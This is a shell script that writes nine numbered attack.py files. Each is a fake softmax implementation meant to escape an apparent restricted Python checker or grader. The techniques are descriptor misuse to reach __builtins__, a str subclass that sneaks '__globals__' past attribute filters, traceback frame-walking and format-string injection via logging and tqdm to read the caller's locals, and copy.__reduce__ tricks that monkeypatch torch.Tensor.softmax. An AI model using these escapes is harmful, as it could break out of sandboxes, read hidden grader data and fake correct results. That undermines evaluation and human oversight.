mk() { mkdir -p "$1"; cat > "$1/attack.py"; }
mk 01_staticmethod_dict <<'EOF'
import torch
import torch.nn.functional as F
from torch import Tensor


class Box:
    @staticmethod
    def peek(self):
        return self.__dict__


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    ns = Box().peek(F)
    real = ns["__builtins__"]
    raise ValueError("GOT " + repr(sorted(real)[:8]))
EOF
mk 02_classmethod_dict <<'EOF'
import torch
import torch.nn.functional as F
from torch import Tensor


class Box(torch.nn.Module):
    @classmethod
    def peek(self):
        return self.__dict__


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    d = Box().peek()
    raise ValueError("GOT " + repr(sorted(d)[:12]))
EOF
mk 03_lambda_self <<'EOF'
import torch
import torch.nn.functional as F
from torch import Tensor


class Box:
    def peek(self, other):
        return (lambda self: self.__dict__)(other)


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    ns = Box().peek(F)
    raise ValueError("GOT " + repr(sorted(ns)[:8]))
EOF
mk 04_strsub_getattr <<'EOF'
import torch
import torch.nn.functional as F
from torch import Tensor


class S(str):
    def __str__(self):
        return "shape"

    def __eq__(self, other):
        return False

    def __hash__(self):
        return 7

    def startswith(self, p):
        return False


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    g = getattr(F.softmax, S("__globals__"))
    raise ValueError("GOT " + repr(sorted(g)[:8]))
EOF
mk 06_tb_getattr <<'EOF'
import torch
import torch.nn.functional as F
from torch import Tensor


class Catch:
    def __enter__(self):
        return self

    def __exit__(self, et, ev, tb):
        self.tb = tb
        return True


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    c = Catch()
    with c:
        raise KeyError("x")
    fr = getattr(c.tb, "tb" + "_frame")
    up = getattr(fr, "f" + "_back")
    raise ValueError("GOT " + repr(up))
EOF
mk 07_logging_brace <<'EOF'
import io
import logging
import torch
import torch.nn.functional as F
from torch import Tensor


class Catch:
    def __enter__(self):
        return self

    def __exit__(self, et, ev, tb):
        self.tb = tb
        return True


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    c = Catch()
    with c:
        raise KeyError("x")
    buf = io.StringIO()
    logging.basicConfig(stream=buf, style="{", force=True,
                        format="{msg.tb_frame.f_back.f_back.f_globals[__name__]} {msg.tb_frame.f_back.f_back.f_locals}")
    logging.warning(c.tb)
    raise ValueError("GOT " + buf.getvalue()[:400])
EOF
mk 08_tqdm_format_meter <<'EOF'
import tqdm
import torch
import torch.nn.functional as F
from torch import Tensor


class Catch:
    def __enter__(self):
        return self

    def __exit__(self, et, ev, tb):
        self.tb = tb
        return True


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    c = Catch()
    with c:
        raise KeyError("x")
    bar = tqdm.tqdm([], disable=True)
    s = bar.format_meter(0, 1, 0.0, bar_format="{t.tb_frame.f_back.f_back.f_globals[__name__]}|{t.tb_frame.f_back.f_back.f_locals}", t=c.tb)
    raise ValueError("GOT " + s[:400])
EOF
mk 09_copy_reduce_class_write <<'EOF'
import copy
import torch
import torch.nn.functional as F
from torch import Tensor


def _mine(self, *a, **k):
    return "patched"


class Red:
    def __reduce__(self):
        return (_cls, (), (None, {"softmax": _mine}))


def _cls():
    return torch.Tensor


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    copy.copy(Red())
    raise ValueError("GOT " + repr(torch.zeros(1).softmax(0)))
EOF
mk 10_copy_reduce_module_write <<'EOF'
import copy
import torch
import torch.nn.functional as F
from torch import Tensor


class Red:
    def __reduce__(self):
        return (_mod, (), {"softmax_probe": 42})


def _mod():
    return torch.nn.functional


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    copy.copy(Red())
    raise ValueError("GOT " + repr(getattr(F, "softmax_probe", None)))
EOF
